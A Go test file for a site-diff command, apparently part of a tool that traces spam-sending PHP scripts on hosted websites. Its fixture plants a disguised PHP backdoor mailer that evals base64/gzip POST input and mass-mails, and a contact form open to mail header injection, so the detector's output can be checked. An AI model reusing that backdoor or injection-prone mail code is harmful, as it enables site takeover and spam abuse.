package main

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/spamrun/spamrun"
	"github.com/spamrun/spamrun/sitediff"
)

const (
	diffMailer  = "wp-content/uploads/2026/11/wp-cache-4f2a.php"
	diffContact = "contact.php"
	diffRemoved = "wp-content/plugins/hello.php"
)

// diffSites writes a small site and its snapshot, then plants a mailer
// in uploads, opens a header injection hole in contact.php and removes a
// plugin. guestbook.php, unchanged, is what an incident of newSpamRun
// names.
func diffSites(t *testing.T) (site, snapshot string) {
	t.Helper()
	base := t.TempDir()
	site, snapshot = filepath.Join(base, "site"), filepath.Join(base, "snapshot")
	deployed := time.Date(2026, 10, 1, 12, 0, 0, 0, time.UTC)
	files := map[string]string{
		"index.php":                            "<?php\nrequire __DIR__ . '/wp-blog-header.php';\n",
		"guestbook.php":                        "<?php\n$entry = htmlspecialchars($_POST['entry'] ?? '');\nfile_put_contents('entries.html', $entry, FILE_APPEND);\nmail('owner@shop1.example', 'New guestbook entry', $entry);\n",
		diffContact:                            "<?php\n$from = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL);\nmail('info@shop1.example', 'Contact', $_POST['message'], 'Reply-To: ' . $from);\n",
		diffRemoved:                            "<?php\n/* Plugin Name: Hello Dolly */\n",
		"wp-content/uploads/2026/11/beach.jpg": "\xff\xd8\xff\xe0\x00\x10JFIF\x00 not a real picture",
	}
	for _, root := range []string{site, snapshot} {
		for p, content := range files {
			writeSiteFile(t, root, p, content, deployed)
		}
	}
	planted := time.Date(2026, 11, 21, 3, 14, 0, 0, time.UTC)
	writeSiteFile(t, site, diffMailer, `<?php
@eval(gzinflate(base64_decode($_POST['p'])));
foreach (explode("\n", $_POST['emails']) as $to) {
	@mail($to, $_POST['subject'], $_POST['body'], "From: " . $_POST['from']);
}
`, planted)
	writeSiteFile(t, site, diffContact, "<?php\n$headers = 'From: ' . $_POST['email'];\nmail('info@shop1.example', 'Contact', $_POST['message'], $headers);\n", planted)
	if err := os.Remove(filepath.Join(site, diffRemoved)); err != nil {
		t.Fatal(err)
	}
	return site, snapshot
}

func writeSiteFile(t *testing.T, root, p, content string, mtime time.Time) {
	t.Helper()
	full := filepath.Join(root, filepath.FromSlash(p))
	if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(full, mtime, mtime); err != nil {
		t.Fatal(err)
	}
}

// rowPaths returns the PATH column of spamrun diff's table.
func rowPaths(t *testing.T, out string) []string {
	t.Helper()
	lines := strings.Split(out, "\n")
	if len(lines) == 0 || !strings.HasPrefix(lines[0], "#") {
		t.Fatalf("no table:\n%s", out)
	}
	var paths []string
	for _, l := range lines[1:] {
		f := strings.Fields(l)
		if len(f) < 4 {
			break
		}
		paths = append(paths, f[1])
	}
	return paths
}

func TestDiffText(t *testing.T) {
	t.Parallel()
	site, snapshot := diffSites(t)
	c := newCLI(t)
	out := c.mustRun("diff", site, snapshot)
	t.Logf("spamrun diff:\n%s", out)
	paths := rowPaths(t, out)
	if len(paths) != 3 || paths[0] != diffMailer || !slices.Contains(paths, diffContact) || !slices.Contains(paths, diffRemoved) {
		t.Errorf("rows %q", paths)
	}
	for first, want := range map[string][]string{
		"1": {"new", "eval-request:2"},
		"2": {diffContact, "changed", "header-injection:3"},
		"3": {diffRemoved, "removed"},
	} {
		l := lineOf(t, out, first)
		for _, w := range want {
			if !strings.Contains(l, w) {
				t.Errorf("row %s lacks %q: %s", first, w, l)
			}
		}
	}
	for _, want := range []string{
		"1. " + diffMailer + " (new)",
		"L2    eval-request",
		"@eval(gzinflate(base64_decode($_POST['p'])));",
		"5 files compared with 5 in the snapshot, 0 hashed, 4 scanned: 1 new, 1 changed, 1 removed, 0 skipped, in ",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q", want)
		}
	}
	if strings.Contains(out, "guestbook.php") {
		t.Errorf("unchanged guestbook.php is listed")
	}
}

func TestDiffJSON(t *testing.T) {
	t.Parallel()
	site, snapshot := diffSites(t)
	c := newCLI(t)
	r := decode[sitediff.Report](t, c.mustRun("diff", "--json", site, snapshot))
	if len(r.Files) != 3 || r.Files[0].Path != diffMailer || r.Files[0].Change != sitediff.New || r.Files[0].Score < 20 || len(r.Files[0].Markers) == 0 || r.Files[0].Markers[0].Line == 0 {
		t.Fatalf("files %+v", r.Files)
	}
	if st := r.Stats; st.New != 1 || st.Changed != 1 || st.Removed != 1 || st.SiteFiles != 5 || st.SnapshotFiles != 5 || st.Elapsed <= 0 {
		t.Errorf("stats %+v", st)
	}
	if r.Site != site || r.Snapshot != snapshot || r.Skipped == nil {
		t.Errorf("report %+v", r)
	}
	// --all adds the unchanged files with any marker.
	r = decode[sitediff.Report](t, c.mustRun("diff", site, snapshot, "--json", "--all"))
	if len(r.Files) != 4 || r.Files[2].Path != "guestbook.php" || r.Files[2].Change != sitediff.Unchanged || r.Files[2].Score >= r.Files[1].Score {
		t.Errorf("--all: %+v", r.Files)
	}
}

func TestDiffFirst(t *testing.T) {
	t.Parallel()
	site, snapshot := diffSites(t)
	c := newCLI(t)
	out := c.mustRun("diff", "--first", filepath.Join(site, "guestbook.php"), "--first", "./"+diffRemoved, "--first", "nothere.php", site, snapshot)
	t.Logf("spamrun diff --first:\n%s", out)
	paths := rowPaths(t, out)
	// Named first, then by score.
	if len(paths) != 4 || paths[0] != "guestbook.php" || paths[1] != diffRemoved || paths[2] != diffMailer {
		t.Errorf("rows %q", paths)
	}
	if l := lineOf(t, out, "1"); !strings.Contains(l, "unchanged, named") {
		t.Errorf("guestbook row: %s", l)
	}
	if !strings.Contains(out, "(named by the incident)") || !strings.Contains(out, "named but not found: nothere.php") {
		t.Errorf("no reasons or not found in\n%s", out)
	}
}

func TestDiffUsageAndFailures(t *testing.T) {
	t.Parallel()
	site, snapshot := diffSites(t)
	c := newCLI(t)
	missing := filepath.Join(t.TempDir(), "gone")
	for _, tc := range []struct {
		args   []string
		code   int
		stderr string
	}{
		{[]string{"diff"}, 64, "SITE_ROOT and SNAPSHOT_ROOT"},
		{[]string{"diff", site}, 64, "SITE_ROOT and SNAPSHOT_ROOT"},
		{[]string{"diff", site, snapshot, "extra"}, 64, "SITE_ROOT and SNAPSHOT_ROOT"},
		{[]string{"diff", "--frobnicate", site, snapshot}, 64, "frobnicate"},
		{[]string{"diff", "--first"}, 64, "flag needs an argument"},
		{[]string{"diff", missing, snapshot}, 1, "spamrun: site root: stat " + missing + ": no such file or directory\n"},
		{[]string{"diff", site, missing}, 1, "spamrun: snapshot root: stat " + missing},
		{[]string{"diff", filepath.Join(site, "index.php"), snapshot}, 1, "index.php is not a directory"},
	} {
		out, errOut, code := c.run(tc.args...)
		if code != tc.code || !strings.Contains(errOut, tc.stderr) || out != "" {
			t.Errorf("spamrun %q: exit %d, stderr %q, stdout %q; want %d and %q", tc.args, code, errOut, out, tc.code, tc.stderr)
		}
	}
	if out, _, code := c.run("diff", "-h"); code != 0 || out != "" {
		t.Errorf("-h: exit %d", code)
	}
	_, errOut, _ := c.run("help")
	if out, _, _ := c.run("help"); !strings.Contains(out, "diff [--json]") || errOut != "" {
		t.Errorf("help lacks diff:\n%s", out)
	}
}

func TestDiffIncident(t *testing.T) {
	t.Parallel()
	in := newSpamRun(t).in // shop1 tripped by 1008:guestbook.php
	incs := decode[[]*spamrun.Incident](t, in.mustRun("incidents", "--json"))
	if len(incs) != 1 {
		t.Fatalf("incidents %+v", incs)
	}
	site, snapshot := diffSites(t)
	r := decode[sitediff.Report](t, in.mustRun("diff", "--json", "--incident", incs[0].ID, site, snapshot))
	if len(r.Files) != 4 || r.Files[0].Path != "guestbook.php" || !r.Files[0].Named || r.Files[0].Why[0] != "named by the incident" || r.Files[1].Path != diffMailer {
		t.Errorf("files %+v", r.Files)
	}
	out, errOut, code := in.run("diff", "--incident", "no-such-incident", site, snapshot)
	if code != 1 || out != "" || !strings.Contains(errOut, `no incident "no-such-incident"`) {
		t.Errorf("unknown incident: exit %d, stderr %q", code, errOut)
	}
}

func TestIncidentScripts(t *testing.T) {
	t.Parallel()
	base := t.TempDir()
	site := filepath.Join(base, "real", "shop1")
	writeSiteFile(t, site, "forms/contact.php", "<?php\n", time.Now())
	writeSiteFile(t, site, "index.php", "<?php\n", time.Now())
	link := filepath.Join(base, "www")
	if err := os.Symlink(filepath.Join(base, "real"), link); err != nil {
		t.Fatal(err)
	}
	ev := func(e spamrun.Evidence) spamrun.SpamEvent { return spamrun.SpamEvent{Evidence: e} }
	inc := &spamrun.Incident{ID: "x", Messages: []spamrun.SpamEvent{
		// The script's own path, through the site's real path.
		ev(spamrun.Evidence{Script: "1008:x.php", File: &spamrun.ScriptFile{Path: filepath.Join(site, "wp-content/uploads/x.php")}}),
		// The caller's directory, under the root as configured, and the
		// script PHP named.
		ev(spamrun.Evidence{Script: "1008:contact.php", Cwd: filepath.Join(link, "shop1", "forms")}),
		// Twice is once.
		ev(spamrun.Evidence{Script: "1008:contact.php", Cwd: filepath.Join(link, "shop1", "forms")}),
		// A directory elsewhere: the base name only.
		ev(spamrun.Evidence{Script: "1008:mailer.php", Cwd: "/var/www/other"}),
		// A working directory in the site but no such file there.
		ev(spamrun.Evidence{Script: "1008:index2.php", Cwd: site}),
		// A path outside the root.
		ev(spamrun.Evidence{File: &spamrun.ScriptFile{Path: "/home/other/public_html/shell.php"}}),
		// Nothing to go by.
		ev(spamrun.Evidence{Cwd: site}),
		ev(spamrun.Evidence{Script: "1008:"}),
	}}
	got := incidentScripts(inc, filepath.Join(link, "shop1"))
	want := []string{"wp-content/uploads/x.php", "forms/contact.php", "mailer.php", "index2.php", "shell.php"}
	if !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}
